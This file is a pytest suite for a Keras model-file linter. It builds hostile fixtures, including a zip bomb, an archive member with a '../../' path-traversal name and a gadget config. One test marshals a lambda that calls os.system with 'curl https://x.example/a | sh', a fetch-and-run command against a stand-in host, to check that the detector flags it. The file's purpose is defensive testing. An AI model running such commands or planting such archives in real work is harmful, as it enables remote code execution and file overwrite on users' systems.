"""Model files without Keras (issue 23): the reader's guards (hostile archives, wrong magic,
missing h5py), the CLI's output for them in every format, --explain, the target, the mapping to the
project's source, and the bytecode reader. The files are written here with the stdlib (zipfile,
json) and h5py, in Keras's own layout (research/saved-model-files.md section 1); what real Keras
does with each is proven by tests/test_model_files_matrix.py."""

from __future__ import annotations

import json
import os
import sys
import zipfile

import pytest

from keras_lint import api
from keras_lint.cli import main
from keras_lint.model_files import CHECKS, Loader, check_model_file, read_model_file, resolve_loader, sniff
from keras_lint.model_files import bytecode

KERAS3 = Loader("keras3", "3.15.1", "test")


def layer(class_name, module="keras.layers", registered_name=None, **config):
    return {"module": module, "class_name": class_name, "config": {"name": class_name.lower(), **config},
            "registered_name": registered_name, "build_config": {"input_shape": [None, 4]}}


def functional(*layers, compile_config=None):
    model = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
             "config": {"name": "functional", "layers": [layer("InputLayer", batch_shape=[None, 4]), *layers]}}
    if compile_config is not None:
        model["compile_config"] = compile_config
    return model


def write_keras(path, config, version="3.15.1", members=()):
    with zipfile.ZipFile(path, "w") as archive:  # ZIP_STORED, as Keras writes
        archive.writestr("metadata.json", json.dumps({"keras_version": version, "date_saved": "2026-12-06@21:47:06"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
        for name, data in members:
            archive.writestr(name, data)
    return str(path)


UNREG = layer("UnregLayer", module="mylib.layers", registered_name="UnregLayer", units=3)


# -- hostile and broken files: one clear finding each, nothing written ------------------------------


def _hostile_files(folder):
    bomb = folder / "bomb.keras"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", json.dumps(functional()))
        archive.writestr("model.weights.h5", bytes(40 * 1024 * 1024))  # 40 MB of zeros in ~40 KB
    traversal = write_keras(folder / "traversal.keras", functional(), members=[("../../evil.txt", b"pwned")])
    good = write_keras(folder / "good.keras", functional())
    data = open(good, "rb").read()
    (folder / "truncated.keras").write_bytes(data[: len(data) // 2])
    (folder / "magic.keras").write_bytes(b"GIF89a" + bytes(100))
    os.remove(good)
    return {"bomb.keras": "zip bomb", "traversal.keras": "path traversal", "truncated.keras": "truncated",
            "magic.keras": "neither a `.keras` zip nor HDF5"}


def test_each_hostile_or_broken_archive_is_one_clear_finding_and_nothing_is_written(project, capsys):
    folder = project / "models"
    folder.mkdir()
    expected = _hostile_files(folder)
    before = sorted(p.name for p in project.rglob("*")) + sorted(os.listdir(project.parent))
    assert main(["--no-cache", "models"]) == 1
    out = capsys.readouterr().out.splitlines()
    assert len(out) == len(expected)
    for line in out:
        name = line.split(":")[0].split("/")[-1]
        assert expected[name] in line, line
        assert (" KL603 " in line) == (name in ("bomb.keras", "traversal.keras")), line
        assert (" KL601 " in line) == (name in ("truncated.keras", "magic.keras")), line
    assert sorted(p.name for p in project.rglob("*")) + sorted(os.listdir(project.parent)) == before


# -- the CLI: formats, exit codes, folders, explain ---------------------------------------------------


def test_cli_reports_the_json_path_in_every_format(project, capsys):
    write_keras(project / "model.keras", functional(functional(layer("Dense", units=2), UNREG)))
    path = "config.layers[1].config.layers[2]"
    assert main(["model.keras"]) == 1
    captured = capsys.readouterr()
    assert captured.out.startswith(f"model.keras:1:1: KL610 {path}: class `UnregLayer`, saved unregistered")
    assert "Model files judged for loading by Keras" in captured.err
    main(["--format", "json", "model.keras"])
    (record,) = json.loads(capsys.readouterr().out)
    assert record["code"] == "KL610" and record["name"] == "unresolvable-custom-class"
    assert record["message"].startswith(path + ": ")
    main(["--format", "sarif", "model.keras"])
    sarif = json.loads(capsys.readouterr().out)
    (result,) = sarif["runs"][0]["results"]
    rules = sarif["runs"][0]["tool"]["driver"]["rules"]
    assert result["ruleId"] == "KL610" and rules[result["ruleIndex"]]["id"] == "KL610"
    assert result["message"]["text"].startswith(path)
    main(["--format", "github", "model.keras"])
    assert capsys.readouterr().out.startswith("::error title=keras-lint (KL610 unresolvable-custom-class),file=model.keras,line=1")
    assert main(["--exit-zero", "model.keras"]) == 0
    assert main(["--ignore", "KL610", "model.keras"]) == 0


def test_clean_model_files_and_folders(project, capsys):
    (project / "models").mkdir()
    write_keras(project / "models" / "ok.keras", functional(layer("Dense", units=2, activation="relu")))
    savedmodel = project / "models" / "export"
    savedmodel.mkdir()
    (savedmodel / "saved_model.pb").write_bytes(b"\x08\x01")
    (project / "train.py").write_text("import keras\n")
    assert main(["--select", "KL6", "."]) == 1  # the SavedModel folder is found and judged (Keras 3 installed)
    out = capsys.readouterr()
    assert out.out.splitlines() == [
        "models/export:1:1: KL632 a TensorFlow SavedModel folder: Keras 3's load_model refuses it ('File format not "
        "supported'); load it with tf_keras, or wrap it in keras.layers.TFSMLayer for inference"]
    assert "Found 1 finding in 3 files." in out.err
    (savedmodel / "saved_model.pb").unlink()
    savedmodel.rmdir()
    assert main(["--select", "KL6", "."]) == 0


def test_explain_and_list_every_model_file_check(capsys):
    assert len(CHECKS) >= 15 and all(code.startswith("KL6") for code in CHECKS)
    for code, check in CHECKS.items():
        assert main(["--explain", code.lower()]) == 0
        out = capsys.readouterr().out
        assert out.startswith(f"{code} {check.name}\n\n{check.summary}\n\nSeverity: {check.severity}\nHelp: {check.help}\n\n## What it does")
        assert "## Why is this bad?" in out and "## Use instead" in out
    main(["--list-rules"])
    listed = capsys.readouterr().out
    assert all(f"{code}  {check.name}" in listed for code, check in CHECKS.items())


# -- formats ------------------------------------------------------------------------------------------


def test_format_is_read_from_content_not_extension(tmp_path):
    h5py = pytest.importorskip("h5py")  # installed with TensorFlow, the test extra
    h5 = tmp_path / "model.keras"
    with h5py.File(h5, "w") as handle:
        handle.attrs["model_config"] = json.dumps({"class_name": "Functional", "config": {"layers": []}})
        handle.attrs["keras_version"] = "3.15.1"
    assert sniff(str(h5)) == "h5"
    assert [(v.code, v.fails) for v in check_model_file(str(h5), KERAS3)] == [("KL602", True)]
    weights = tmp_path / "w.weights.h5"
    with h5py.File(weights, "w") as handle:  # Keras 3's save_weights layout
        handle.create_group("layers")
        handle.create_group("vars")
    assert [v.code for v in check_model_file(str(weights), KERAS3)] == ["KL604"]
    zipped = write_keras(tmp_path / "model.h5", functional())
    assert [v.code for v in check_model_file(zipped, KERAS3)] == ["KL602"]


def test_missing_h5py_is_one_clear_error_and_the_run_goes_on(project, monkeypatch, capsys):
    (project / "model.h5").write_bytes(b"\x89HDF\r\n\x1a\n" + bytes(100))
    write_keras(project / "other.keras", functional(UNREG))
    monkeypatch.setitem(sys.modules, "h5py", None)
    assert main(["model.h5", "other.keras"]) == 2
    captured = capsys.readouterr()
    assert "keras-lint: error: model.h5: h5py is needed to read HDF5 model files: pip install keras-lint[h5]" in captured.err
    assert "other.keras:1:1: KL610" in captured.out


def _field(number, payload: bytes) -> bytes:
    size, out = len(payload), b""
    while True:
        byte = size & 0x7F
        size >>= 7
        out += bytes([byte | (0x80 if size else 0)])
        if not size:
            break
    return bytes([number << 3 | 2]) + out + payload


def test_savedmodel_keras_metadata_is_read_with_the_wire_reader(tmp_path):
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "saved_model.pb").write_bytes(b"")
    root = {"class_name": "Functional", "keras_version": "2.21.0", "backend": "tensorflow",
            "model_config": {"class_name": "Functional", "config": {"layers": [
                {"class_name": "Lambda", "config": {"function": {"class_name": "__tuple__", "items": [
                    bytecode_of_py311(), None, None]}, "function_type": "lambda"}}]}},
            "training_config": {"loss": "my_loss"}}
    node = _field(3, b"root") + _field(4, b"_tf_keras_network") + _field(5, json.dumps(root).encode())
    (folder / "keras_metadata.pb").write_bytes(_field(1, node))
    model = read_model_file(str(folder))
    assert (model.kind, model.keras_version, model.config_key) == ("savedmodel", "2.21.0", "model_config")
    verdicts = check_model_file(str(folder), Loader("tf_keras", "2.21.0"))
    assert [(v.code, v.where, v.fails) for v in verdicts] == [
        ("KL623", "model_config.config.layers[0].config.function", False),
        ("KL611", "training_config.loss", True)]
    assert [v.code for v in check_model_file(str(folder), KERAS3)] == ["KL632"]


def bytecode_of_py311():
    return "4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwApAk7nAAAAAAAAAECpACkB2gF0cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yBgAAAAMAAABzCgAAAIAAiEGQA4lHgADzAAAAAA=="


# -- the walk reaches every nested config -----------------------------------------------------------


def test_every_nested_place_is_walked(tmp_path):
    schedule = {"module": "mylib.schedules", "class_name": "MySchedule", "config": {}, "registered_name": "mylib>MySchedule"}
    optimizer = {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": schedule}, "registered_name": None}
    wrapper = layer("TimeDistributed", layer=UNREG)
    custom = layer("Holder", module="mylib.layers", registered_name="mylib>Holder",
                   inner={"any_key": [layer("Inner", module="mylib.layers", registered_name="Inner")]})
    metric = {"module": "builtins", "class_name": "function", "config": "my_metric", "registered_name": "function"}
    config = functional(wrapper, custom, compile_config={"optimizer": optimizer, "loss": "mse", "metrics": [metric]})
    path = write_keras(tmp_path / "m.keras", config)
    found = [(v.code, v.where) for v in check_model_file(path, KERAS3)]
    assert found == [
        ("KL610", "config.layers[1].config.layer"),
        ("KL610", "config.layers[2]"),
        ("KL610", "config.layers[2].config.inner.any_key[0]"),
        ("KL610", "compile_config.optimizer.config.learning_rate"),
        ("KL611", "compile_config.metrics[0]"),
    ]
    no_compile = Loader("keras3", "3.15.1", compile=False)
    assert [v.where for v in check_model_file(path, no_compile)] == [w for _, w in found[:3]]


# -- the project's source ----------------------------------------------------------------------------


def test_findings_say_where_the_project_defines_what_the_file_needs(project, capsys):
    (project / "mylib").mkdir()
    (project / "mylib" / "__init__.py").write_text("")
    (project / "mylib" / "layers.py").write_text(
        "import keras\n\n"
        "@keras.saving.register_keras_serializable(package='mylib')\n"
        "class Registered(keras.layers.Layer):\n    pass\n\n"
        "@keras.saving.register_keras_serializable(package='other')\n"
        "class Moved(keras.layers.Layer):\n    pass\n\n"
        "class Plain(keras.layers.Layer):\n    pass\n\n"
        "def act(x):\n    return x\n"
    )
    config = functional(
        layer("Registered", module="mylib.layers", registered_name="mylib>Registered"),
        layer("Moved", module="mylib.layers", registered_name="mylib>Moved"),
        layer("Plain", module="mylib.layers", registered_name="Plain"),
        layer("Dense", units=2, activation={"module": "builtins", "class_name": "function", "config": "act",
                                            "registered_name": "function"}),
        layer("Gone", module="elsewhere", registered_name="pkg>Gone"),
    )
    write_keras(project / "model.keras", config)
    assert main(["--no-cache", "--select", "KL6", "model.keras"]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 4  # Registered resolves: the project registers mylib>Registered
    assert "config.layers[2]: class registered as `mylib>Moved` when saved, registered as `other>Moved` at mylib/layers.py:8" in lines[0]
    assert "config.layers[3]: class `Plain`, saved unregistered" in lines[1]
    assert "defined at mylib/layers.py:11: load with custom_objects={'Plain': mylib.layers.Plain}" in lines[1]
    assert "config.layers[5]: class registered as `pkg>Gone` when saved, not defined in this project" in lines[2]
    assert "KL611 config.layers[4].config.activation: function `act`" in lines[3] and "mylib/layers.py:14" in lines[3]


# -- the target --------------------------------------------------------------------------------------


def test_the_target_is_declared_else_installed_else_newest(tmp_path, monkeypatch):
    monkeypatch.delenv("TF_USE_LEGACY_KERAS", raising=False)
    (tmp_path / "requirements.txt").write_text("tensorflow==2.15.0\n")
    declared = resolve_loader(str(tmp_path))
    assert (declared.line, declared.version) == ("tf_keras", "2.15") and declared.why.startswith("declared")
    (tmp_path / "requirements.txt").write_text("keras==3.8.0\n")
    assert (resolve_loader(str(tmp_path)).line, resolve_loader(str(tmp_path)).version) == ("keras3", "3.8")
    (tmp_path / "requirements.txt").unlink()
    from importlib import metadata

    installed = resolve_loader(str(tmp_path))
    assert (installed.line, installed.version, installed.why) == ("keras3", metadata.version("keras"), "installed")

    def absent(name):
        raise metadata.PackageNotFoundError(name)

    monkeypatch.setattr(metadata, "version", absent)
    newest = resolve_loader(str(tmp_path))
    assert newest.line == "keras3" and "newest" in newest.why


def test_a_keras2_file_is_judged_by_the_loader_it_meets(tmp_path):
    tk = functional(layer("Dense", units=2))
    tk["module"] = "tf_keras.src.engine.functional"
    path = write_keras(tmp_path / "tk.keras", tk, version="2.21.0")
    assert [(v.code, v.where, v.fails) for v in check_model_file(path, KERAS3)] == [("KL630", "", True)]
    assert check_model_file(path, Loader("tf_keras", "2.21.0")) == []
    k3 = write_keras(tmp_path / "k3.keras", functional())
    assert [v.code for v in check_model_file(k3, Loader("tf_keras", "2.21.0"))] == ["KL631"]


def test_non_modeling_api_is_a_gadget(tmp_path):
    gadget = {"module": "keras.saving", "class_name": "load_model", "config": {"filepath": "x"}, "registered_name": None}
    path = write_keras(tmp_path / "m.keras", functional(layer("Dense", units=2, kernel_initializer=gadget)))
    assert [(v.code, v.where) for v in check_model_file(path, KERAS3)] == [("KL640", "config.layers[1].config.kernel_initializer")]


# -- the bytecode reader -----------------------------------------------------------------------------

# `lambda t: t * 2.0` marshalled by CPython 3.8.18, 3.10.13, 3.12.1 and 3.13.0.
BYTECODE = {
    "3.8-3.10": ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7nAAAAAAAAAECpACkB2gF0cgIAAAByAgAAANoIPHN0cmluZz7aCDxsYW1iZGE+AwAAAPMAAAAA",
                 "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7nAAAAAAAAAECpACkB2gF0cgIAAAByAgAAANoIPHN0cmluZz7aCDxsYW1iZGE+AwAAAHMCAAAACAA="],
    "3.11-3.12": ["4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACXAHwAZAF6BQAAUwApAk7nAAAAAAAAAECpACkB2gF0cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yBgAAAAMAAABzCgAAAIAAiEGQA4lHgADzAAAAAA=="],
    "3.13+": ["4wEAAAAAAAAAAAAAAAIAAAADAAAA8wwAAACVAFUAUwEtBQAAJAApAk7nAAAAAAAAAECpACkB2gF0cwEAAAAg2gg8c3RyaW5nPtoIPGxhbWJkYT5yBgAAAAMAAABzCAAAAIAAiEGQA4pH8wAAAAA="],
}


def test_bytecode_family_and_names_are_read_without_unmarshalling():
    import marshal

    for family, codes in BYTECODE.items():
        for code in codes:
            assert bytecode.family(bytecode.decode(code)) == family
    here = bytecode.running_family(sys.version_info)
    assert bytecode.family(marshal.dumps((lambda t: t).__code__)) == here
    evil = marshal.dumps((lambda t: __import__("os").system("curl https://x.example/a | sh") or t).__code__)
    assert bytecode.suspicious_names(evil) == ["__import__", "curl https://x.example/a | sh", "os", "system"]
    assert bytecode.suspicious_names(marshal.dumps((lambda t: t * 2).__code__)) == []
    # the code object's own file name is no file access, wherever the training script ran (a clone in /tmp)
    assert bytecode.suspicious_names(marshal.dumps(compile("lambda t: t", "/tmp/run/train.py", "eval"))) == []
    assert bytecode.family(b"not code at all, just bytes in a row") is None


def test_split_model_files_keeps_python_targets():
    targets, models = api.split_model_files(["a.py", "m.keras"], ["a.py", "m.keras"], api.make_settings(["."]))
    assert (targets, models) == (["a.py"], ["m.keras"])


def test_the_readme_lists_every_model_file_check():
    from conftest import ROOT

    with open(os.path.join(ROOT, "README.md"), encoding="utf-8") as handle:
        text = handle.read().split("## Model files", 1)[1].split("\n## ", 1)[0]
    rows = [line.split(" | ")[:2] for line in text.splitlines() if line.startswith("| KL6")]
    assert [(code.strip("| "), name) for code, name in rows] == [(code, check.name) for code, check in CHECKS.items()]


def test_a_folder_walk_skips_data_hdf5_and_excluded_files(project, capsys):
    h5py = pytest.importorskip("h5py")
    (project / "data").mkdir()
    with h5py.File(project / "data" / "images.h5", "w") as handle:
        handle.create_dataset("x", data=[1, 2, 3])
    with h5py.File(project / "data" / "w.weights.h5", "w") as handle:  # Keras 3's save_weights layout
        handle.create_group("layers")
        handle.create_group("vars")
    write_keras(project / "data" / "old.keras", functional(UNREG))
    (project / "setup.cfg").write_text("[metadata]\nname = sample\n[keras-lint]\nextend-exclude = old.keras\n")
    assert main(["--no-cache", "--select", "KL6", "."]) == 1
    assert [line.split(":")[0] + " " + line.split()[1] for line in capsys.readouterr().out.splitlines()] == [
        "data/w.weights.h5 KL604"]
    # named (as pre-commit's hook names every .h5): neither a model nor Python, so nothing to say
    assert main(["--no-cache", "data/images.h5"]) == 0
    assert capsys.readouterr().out == ""
    assert [v.code for v in check_model_file(str(project / "data" / "images.h5"), KERAS3)] == ["KL601"]
    assert main(["--no-cache", "--select", "KL6", "data/old.keras"]) == 0  # named, but excluded (as pre-commit names it)


def test_keras_before_3_9_imports_the_module_of_an_unregistered_class(tmp_path):
    path = write_keras(tmp_path / "m.keras", functional(UNREG))
    (old,) = check_model_file(path, Loader("keras3", "3.8"))
    assert (old.code, old.fails) == ("KL610", False) and "imports `mylib.layers`" in old.message
    (new,) = check_model_file(path, Loader("keras3", "3.9"))
    assert (new.code, new.fails) == ("KL610", True)


def test_a_load_model_call_naming_the_file_is_how_it_is_judged_and_where_it_is_reported(project, capsys):
    (project / "models").mkdir()
    config = functional(UNREG, compile_config={"loss": {"module": "builtins", "class_name": "function",
                                                        "config": "my_loss", "registered_name": "function"}})
    write_keras(project / "models" / "best.keras", config)
    (project / "serve.py").write_text(
        "import keras\n\n"
        "def serve():\n"
        "    return keras.models.load_model('models/best.keras', compile=False)\n"
    )
    assert main(["--no-cache", "--select", "KL6", "models/best.keras"]) == 1
    lines = capsys.readouterr().out.splitlines()
    # compile=False: the loss no longer matters; the class still fails, here and at the call
    assert [line.split(": ")[0] + " " + line.split()[1] for line in lines] == [
        "models/best.keras:1:1 KL610", "serve.py:4:12 KL610"]
    assert "load_model('models/best.keras') will fail: models/best.keras at config.layers[1]: class `UnregLayer`" in lines[1]
    (project / "serve.py").write_text(
        "from keras.models import load_model\nfrom mylib import UnregLayer\n"
        "model = load_model('models/best.keras', custom_objects={'UnregLayer': UnregLayer})\n"
    )
    assert main(["--no-cache", "--select", "KL6", "models/best.keras"]) == 1
    lines = capsys.readouterr().out.splitlines()
    assert [line.split(": ")[0] + " " + line.split()[1] for line in lines] == [
        "models/best.keras:1:1 KL611", "serve.py:3:9 KL611"]
    assert "compile_config.loss: function `my_loss`" in lines[0]
    (project / "serve.py").write_text("import mylib\nmodel = mylib.load_model('models/best.keras')\n")  # not Keras's
    main(["--no-cache", "--select", "KL6", "models/best.keras"])
    assert [line.split(": ")[0] for line in capsys.readouterr().out.splitlines()] == ["models/best.keras:1:1"] * 2


# -- the globals a lambda reads (KL626) ----------------------------------------------------------------

# `lambda t: tf.abs(t) * np.float32(SCALE)` marshalled by CPython 3.8.18, 3.10.13, 3.12.1 and 3.13.0.
GLOBALS_BYTECODE = [
    "4wEAAAAAAAAAAAAAAAEAAAAEAAAAQwAAAHMUAAAAdACgAXwAoQF0AqADdAShARQAUwCpAU4pBdoCdGbaA2Fic9oCbnDaB2Zsb2F0MzLaBVNDQUxF"
    "qQHaAXSpAHIJAAAA+g4vdG1wL2gyMy9nbC5wedoIPGxhbWJkYT4FAAAA8wAAAAA=",
    "4wEAAAAAAAAAAAAAAAEAAAAEAAAAQwAAAHMUAAAAdACgAXwAoQF0AqADdAShARQAUwCpAU4pBdoCdGbaA2Fic9oCbnDaB2Zsb2F0MzLaBVNDQUxF"
    "qQHaAXSpAHIJAAAA+g4vdG1wL2gyMy9nbC5wedoIPGxhbWJkYT4FAAAAcwIAAAAUAA==",
    "4wEAAAAAAAAAAAAAAAQAAAADAAAA82AAAACXAHQAAAAAAAAAAABqAwAAAAAAAAAAAAAAAAAAAAAAAHwAqwEAAAAAAAB0BAAAAAAAAAAAagcAAAAA"
    "AAAAAAAAAAAAAAAAAAB0CAAAAAAAAAAAqwEAAAAAAAB6BQAAUwCpAU4pBdoCdGbaA2Fic9oCbnDaB2Zsb2F0MzLaBVNDQUxFqQHaAXRzAQAAACD6"
    "Di90bXAvaDIzL2dsLnB5+gg8bGFtYmRhPnILAAAABQAAAHMcAAAAgACUUpdWkVaYQZNZpBKnGqEarEXTITLRFTKAAPMAAAAA",
    "4wEAAAAAAAAAAAAAAAQAAAADAAAA82AAAACVAFsAAAAAAAAAAABSAwAAAAAAAAAAAAAAAAAAAAAAAFUANQEAAAAAAABbBAAAAAAAAAAAUgcAAAAA"
    "AAAAAAAAAAAAAAAAAABbCAAAAAAAAAAANQEAAAAAAAAtBQAAJACpAU4pBdoCdGbaA2Fic9oCbnDaB2Zsb2F0MzLaBVNDQUxFqQHaAXRzAQAAACDa"
    "Di90bXAvaDIzL2dsLnB52gg8bGFtYmRhPnILAAAABQAAAHMaAAAAgACUUpdWkVaYQZNZpBKnGqEarEXTITLSFTLzAAAAAA==",
]
# `def f(t): return [tf.abs(x) for x in t] + SCALE` by CPython 3.10.13: the comprehension is a nested code object.
NESTED_BYTECODE_PY310 = (
    "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMSAAAAZAFkAoQAfABEAIMBdAAXAFMAKQNOYwEAAAAAAAAAAAAAAAIAAAAFAAAAUwAAAHMWAAAAZwB8"
    "AF0HfQF0AKABfAGhAZECcQJTAKkAKQLaAnRm2gNhYnMpAtoCLjDaAXhyAQAAAHIBAAAA+g4vdG1wL2gyMy9nbC5wedoKPGxpc3Rjb21wPgQAAABz"
    "AgAAABYAehVmLjxsb2NhbHM+LjxsaXN0Y29tcD4pAdoFU0NBTEWpAdoBdHIBAAAAcgEAAAByBgAAANoBZgMAAABzAgAAABIB"
)


def test_the_globals_a_lambda_reads_are_read_from_its_bytecode_of_any_python():
    import marshal

    for code in GLOBALS_BYTECODE:
        assert bytecode.global_names(bytecode.decode(code)) == ["tf", "np", "SCALE"]
    assert bytecode.global_names(bytecode.decode(NESTED_BYTECODE_PY310)) == ["SCALE", "tf"]
    scale = 2.0
    assert bytecode.global_names(marshal.dumps((lambda t, a=1: t * a * scale + len(t)).__code__)) == ["len"]
    assert bytecode.global_names(marshal.dumps((lambda t: keras.ops.abs(t)).__code__)) == ["keras"]  # noqa: F821
    data = marshal.dumps((lambda t: tf.abs(t)).__code__)  # noqa: F821
    for cut in range(0, len(data), 7):  # truncated or garbled data: None or a list, never an exception
        assert bytecode.global_names(data[:cut]) in (None, [], ["tf"])
        assert isinstance(bytecode.global_names(data[:cut] + b"r\xff\xff\xff\x7f" + data[cut:]), (list, type(None)))
    assert bytecode.global_names(b"not code at all, just bytes in a row") is None


def _lambda_layer(code):
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return layer("Lambda", function=function)


def test_a_lambda_reading_globals_fails_where_it_runs(tmp_path):
    import base64
    import marshal

    code = base64.b64encode(marshal.dumps((lambda t: t * SCALE).__code__)).decode()  # noqa: F821
    path = write_keras(tmp_path / "m.keras", functional(_lambda_layer(code)))
    unsafe = Loader("keras3", "3.15.1", safe_mode=False)
    assert [(v.code, v.fails) for v in check_model_file(path, unsafe)] == [("KL620", False), ("KL626", True)]
    assert "`SCALE`" in check_model_file(path, unsafe)[1].message
    assert [v.code for v in check_model_file(path, KERAS3)] == ["KL620"]  # refused before it runs
    builtin_only = base64.b64encode(marshal.dumps((lambda t: abs(t) + len(t)).__code__)).decode()
    clean = write_keras(tmp_path / "clean.keras", functional(_lambda_layer(builtin_only)))
    assert [v.code for v in check_model_file(clean, unsafe)] == ["KL620"]
    # tf_keras: its Lambda module's globals (tf, np) and the loading script's __main__
    tk = functional(layer("Lambda", function=[code, None, None], function_type="lambda", module="__main__"))
    tk["module"] = None
    tk_path = write_keras(tmp_path / "tk.keras", tk, version="2.21.0")
    tk_unsafe = Loader("tf_keras", "2.21.0", safe_mode=False)
    assert "KL626" in [v.code for v in check_model_file(tk_path, tk_unsafe)]
    given = Loader("tf_keras", "2.21.0", safe_mode=False, main_globals=frozenset({"SCALE"}))
    assert "KL626" not in [v.code for v in check_model_file(tk_path, given)]


# -- --model-loader ---------------------------------------------------------------------------------


def test_the_model_loader_option_chooses_who_loads(project, capsys):
    dense = layer("Dense", units=2, quantization_config=None)
    write_keras(project / "model.keras", functional(dense))
    assert main(["--no-cache", "--select", "KL6", "model.keras"]) == 0
    assert "judged for loading by Keras 3.15.1 (installed)" in capsys.readouterr().err
    assert main(["--no-cache", "--select", "KL6", "--model-loader", "tf_keras", "model.keras"]) == 1
    out = capsys.readouterr()
    assert out.out.startswith("model.keras:1:1: KL631 saved by Keras 3.15.1: tf_keras cannot load")
    assert "judged for loading by tf_keras 2.21.0 (--model-loader, installed)" in out.err
    assert main(["--no-cache", "--select", "KL6", "--model-loader", "keras==3.6.0", "model.keras"]) == 1
    out = capsys.readouterr()
    assert "KL633" in out.out and "judged for loading by Keras 3.6.0 (--model-loader)" in out.err
    for wrong in ("torch", "tf_keras==3.1", "keras==x"):
        with pytest.raises(SystemExit) as exit_:
            main(["--model-loader", wrong, "model.keras"])
        assert exit_.value.code == 2
        assert "--model-loader" in capsys.readouterr().err


# -- Keras before 2.4 (KL634) -------------------------------------------------------------------------


def _legacy_h5(path, model_config, keras_version="2.21.0"):
    h5py = pytest.importorskip("h5py")  # installed with TensorFlow, the test extra
    with h5py.File(path, "w") as handle:
        handle.attrs["model_config"] = json.dumps(model_config)
        handle.attrs["keras_version"] = keras_version
        handle.attrs["backend"] = "tensorflow"
        handle.create_group("model_weights")
    return str(path)


def _legacy_model(class_name, *layers):
    inputs = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "input_1"}}
    return {"class_name": class_name, "config": {"name": "model", "layers": [inputs, *layers]}}


def test_a_functional_model_under_keras_before_2_4(project, capsys):
    dense = {"class_name": "Dense", "config": {"name": "dense", "units": 2}}
    new = _legacy_h5(project / "new.h5", _legacy_model("Functional", dense))
    nested = _legacy_h5(project / "nested.h5", _legacy_model("Model", _legacy_model("Functional", dense)))
    old = _legacy_h5(project / "old.h5", _legacy_model("Model", dense), keras_version="2.3.1")
    tf23 = Loader("tf_keras", "2.3")
    assert [(v.code, v.where, v.fails) for v in check_model_file(new, tf23)] == [("KL634", "model_config", True)]
    assert [(v.code, v.where) for v in check_model_file(nested, tf23)] == [("KL634", "model_config.config.layers[1]")]
    assert check_model_file(old, tf23) == []
    for loader in (Loader("tf_keras", "2.4"), Loader("tf_keras", "2.21.0")):
        assert check_model_file(new, loader) == []
    assert "Keras 2.3" in check_model_file(new, tf23)[0].message  # not "tf_keras 2.3": that package began at 2.14
    # TensorFlow 2.3 bundles Keras 2.4.0: a version given as TensorFlow's is bounded at 2.3
    assert [v.code for v in check_model_file(new, Loader("tf_keras", "2.2", tensorflow=True))] == ["KL634"]
    assert check_model_file(new, Loader("tf_keras", "2.3", tensorflow=True)) == []
    # the project declares TensorFlow 2.2: judged so without naming the loader
    (project / "requirements.txt").write_text("tensorflow==2.2.0\n")
    assert main(["--no-cache", "--select", "KL6", "new.h5", "old.h5"]) == 1
    out = capsys.readouterr()
    assert [line.split()[:2] for line in out.out.splitlines()] == [["new.h5:1:1:", "KL634"]]
    assert "judged for loading by the tf.keras of TensorFlow 2.2 (declared: tf.keras 2.2, from requirements.txt:1" in out.err
    (project / "requirements.txt").write_text("tensorflow==2.3.0\n")
    assert main(["--no-cache", "--select", "KL6", "new.h5", "old.h5"]) == 0
    os.remove(project / "requirements.txt")
    assert main(["--no-cache", "--select", "KL6", "--model-loader", "tensorflow==2.2", "new.h5"]) == 1
    assert main(["--no-cache", "--select", "KL6", "--model-loader", "keras==2.3", "new.h5"]) == 1
    assert main(["--no-cache", "--select", "KL6", "--model-loader", "tensorflow==2.3", "new.h5"]) == 0
    with pytest.raises(SystemExit):
        main(["--model-loader", "tensorflow==2.16", "new.h5"])
    capsys.readouterr()


# -- keras_hub and the like (KL613) --------------------------------------------------------------------


def test_a_model_library_class_where_the_library_is_not_installed(tmp_path, monkeypatch):
    from keras_lint.model_files import target

    hub = layer("TransformerEncoder", module="keras_hub.src.layers.modeling.transformer_encoder",
                registered_name="keras_hub>TransformerEncoder", intermediate_dim=8)
    path = write_keras(tmp_path / "m.keras", functional(hub))
    missing = Loader("keras3", "3.15.1", libraries=frozenset())
    assert [(v.code, v.where, v.fails) for v in check_model_file(path, missing)] == [("KL613", "config.layers[1]", True)]
    assert "pip install keras-hub" in check_model_file(path, missing)[0].message
    assert check_model_file(path, Loader("keras3", "3.15.1", libraries=frozenset({"keras_hub"}))) == []
    assert check_model_file(path, KERAS3) == []  # what the loading environment holds is unknown
    # the installed Keras: its environment's packages are known
    versions = {"keras": "3.15.1", "keras-hub": "0.21.0"}
    monkeypatch.setattr(target, "_installed", versions.get)
    assert target.resolve_loader(None).libraries == frozenset({"keras_hub"})
    del versions["keras-hub"]
    assert target.resolve_loader(None).libraries == frozenset()
    assert [v.code for v in check_model_file(path, target.resolve_loader(None))] == ["KL613"]
    (tmp_path / "requirements.txt").write_text("keras==3.15.1\n")  # declared: the loading environment is elsewhere
    assert target.resolve_loader(str(tmp_path)).libraries is None


# -- TFSMLayer (KL614) -----------------------------------------------------------------------------------


def test_a_tfsm_layer_is_refused_under_safe_mode_or_needs_its_savedmodel(project):
    tfsm = layer("TFSMLayer", filepath="exports/dense", call_endpoint="serve")
    path = write_keras(project / "m.keras", functional(tfsm))
    assert [(v.code, v.where, v.fails) for v in check_model_file(path, KERAS3)] == [("KL614", "config.layers[1]", True)]
    assert "refuses it under safe_mode" in check_model_file(path, KERAS3)[0].message
    unsafe = Loader("keras3", "3.15.1", safe_mode=False)
    assert "is not there" in check_model_file(path, unsafe)[0].message
